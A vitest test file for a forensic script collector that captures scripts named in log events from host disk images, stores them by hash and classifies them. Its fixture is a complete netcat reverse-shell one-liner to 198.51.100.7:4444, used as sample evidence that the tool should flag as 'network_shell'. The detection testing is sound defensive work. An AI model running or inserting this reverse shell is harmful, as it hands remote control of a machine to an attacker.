import { createHash } from 'node:crypto'
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { hostname, tmpdir } from 'node:os'
import { join } from 'node:path'

import { afterEach, beforeEach, describe, expect, it } from 'vitest'

import { type PlainEvent, plainEvent } from '../../event/made-event.ts'

import { type CaptureRequest, openCapture } from '../scripts/capture.ts'
import type { NamedScript } from '../stations/named-scripts.ts'
import { CapturesCollector } from './captures.ts'

let folder = ''
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'ipcwatch-captures-'))
  mkdirSync(join(folder, 'image', 'tmp'), { recursive: true })
})
afterEach(() => rmSync(folder, { recursive: true, force: true }))

const at = (...names: string[]) => join(folder, ...names)

function named(path: string, time: number, host = 'h1'): NamedScript {
  return {
    path,
    place: {
      product: 'linux',
      origin: { file: 'log', record: time, offset: 0 },
      time,
      host,
      fields: {},
    },
  }
}

async function collector(request: CaptureRequest, goesOn = false) {
  const made: PlainEvent[] = []
  const notes: string[] = []
  const capturing = await openCapture(request, [], goesOn)
  const captures = new CapturesCollector(capturing!, {
    event: (event) => made.push(plainEvent(event)),
    note: (message) => notes.push(message),
  })
  const take = (...all: NamedScript[]) =>
    captures.take({ kind: 'named-scripts', named: all })
  return { captures, take, made, notes }
}

const script =
  'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 >/tmp/f\n'
const kinds = (made: readonly PlainEvent[]) =>
  made.map((m) => m.values[m.names.indexOf('ActionKind')])

describe('CapturesCollector', () => {
  it('reads a script when it is named, and tells of it when its time has come', async () => {
    writeFileSync(at('image', 'tmp', 'x.sh'), script)
    const { captures, take, made } = await collector({ root: at('image') })
    take(named('/tmp/x.sh', 100))
    rmSync(at('image', 'tmp', 'x.sh'))
    expect(captures.advance(50)).toBe(50)
    expect(captures.advance(100)).toBe(100)
    expect(made).toEqual([])
    captures.advance(101)
    expect(kinds(made)).toContain('network_shell')
    expect(made[0]).toMatchObject({ time: 100, host: 'h1' })
  })

  it('tells of a script once, at the first event that names it, in whatever order they come', async () => {
    writeFileSync(at('image', 'tmp', 'x.sh'), script)
    const { captures, take, made } = await collector({ root: at('image') })
    take(named('/tmp/x.sh', 300), named('/tmp/x.sh', 200))
    take(named('/tmp/x.sh', 250))
    captures.advance(Number.POSITIVE_INFINITY)
    expect(kinds(made).filter((k) => k === 'script')).toHaveLength(1)
    expect(made[0]!.time).toBe(200)
  })

  it('looks for the scripts of each host in its own image', async () => {
    mkdirSync(at('other', 'tmp'), { recursive: true })
    writeFileSync(at('image', 'tmp', 'x.sh'), 'echo hello\n')
    writeFileSync(at('other', 'tmp', 'x.sh'), script)
    const { captures, take, made } = await collector({
      hostRoots: { h1: at('image'), 'h2.example.test': at('other') },
      store: at('store'),
    })
    take(named('/tmp/x.sh', 100), named('/tmp/x.sh', 101, 'H2'))
    take(named('/tmp/x.sh', 102, 'h3'))
    captures.advance(Number.POSITIVE_INFINITY)
    const shells = made.filter((m) => m.values.includes('network_shell'))
    expect(shells.map((m) => m.host)).toEqual(['H2'])
    const kept = readFileSync(at('store', 'index.ndjson'), 'utf8')
    expect(kept).toContain('no image of host \\"h3\\" is named')
  })

  it('reads a script again that was written anew', async () => {
    const path = at('image', 'tmp', 'x.sh')
    writeFileSync(path, 'echo hello\n')
    const { captures, take, made } = await collector({ root: at('image') })
    take(named('/tmp/x.sh', 100))
    writeFileSync(path, script)
    take(named('/tmp/x.sh', 200))
    captures.advance(Number.POSITIVE_INFINITY)
    expect(kinds(made).filter((k) => k === 'script')).toHaveLength(2)
  })

  it('keeps what it read by its hash, once, not to be written again', async () => {
    const store = at('store')
    writeFileSync(at('image', 'tmp', 'x.sh'), script)
    writeFileSync(at('image', 'tmp', 'y.sh'), script)
    const { captures, take, notes } = await collector({
      root: at('image'),
      store,
    })
    take(named('/tmp/x.sh', 100), named('/tmp/y.sh', 101))
    captures.advance(Number.POSITIVE_INFINITY)
    const hash = createHash('sha256').update(script).digest('hex')
    const kept = join(store, hash.slice(0, 2), hash)
    expect(readFileSync(kept, 'utf8')).toBe(script)
    expect(statSync(kept).mode & 0o222).toBe(0)
    const lines = readFileSync(join(store, 'index.ndjson'), 'utf8')
    expect(lines.trim().split('\n')).toHaveLength(2)
    expect(notes).toEqual(['captured: 2 scripts'])
  })

  it('goes on after another run with what that one captured, though the file is gone', async () => {
    const request = { root: at('image'), store: at('store') }
    writeFileSync(at('image', 'tmp', 'x.sh'), script)
    const first = await collector(request, true)
    first.take(named('/tmp/x.sh', 100), named('/tmp/gone.sh', 100))
    rmSync(at('image', 'tmp', 'x.sh'))
    const second = await collector(request, true)
    second.take(named('/tmp/x.sh', 100), named('/tmp/gone.sh', 100))
    second.captures.advance(Number.POSITIVE_INFINITY)
    expect(kinds(second.made)).toContain('network_shell')
    expect(second.notes).toEqual([])
  })

  it('says what it could not capture, each reason once', async () => {
    writeFileSync(at('secret.sh'), script)
    symlinkSync(at('secret.sh'), at('image', 'tmp', 'out.sh'))
    mkdirSync(at('image', 'tmp', 'folder.sh'))
    const { captures, take, notes } = await collector({ root: at('image') })
    for (const name of ['a', 'b', 'c', 'd']) take(named(`/tmp/${name}.sh`, 1))
    take(named('/tmp/out.sh', 1), named('/tmp/folder.sh', 1))
    take(named('/tmp/../../secret.sh', 1), named('rel.sh', 1))
    captures.advance(10)
    captures.advance(20)
    expect(notes).toEqual([
      'not captured: /tmp/../../secret.sh, /tmp/a.sh, /tmp/b.sh and 2 more: not in the image, nor in the evidence',
      'not captured: /tmp/out.sh: a link leads out of the image',
      'not captured: /tmp/folder.sh: no regular file',
      'not captured: rel.sh: the path is relative, and no file of the evidence has its name',
    ])
  })

  it('does not look on this host for scripts of another one', async () => {
    const path = at('image', 'tmp', 'x.sh')
    writeFileSync(path, script)
    const { captures, take, made, notes } = await collector({ root: '/' })
    take(named(path, 1, 'elsewhere.example'), named(path, 2, hostname()))
    captures.advance(Number.POSITIVE_INFINITY)
    expect(made[0]).toMatchObject({ host: hostname() })
    expect(notes.join()).toContain('the event is not of this host')
  })

  it('refuses a store inside of an image, and makes nothing there', async () => {
    const store = at('image', 'store')
    await expect(collector({ root: at('image'), store })).rejects.toThrow(
      'inside of the evidence',
    )
    expect(existsSync(store)).toBe(false)
  })
})
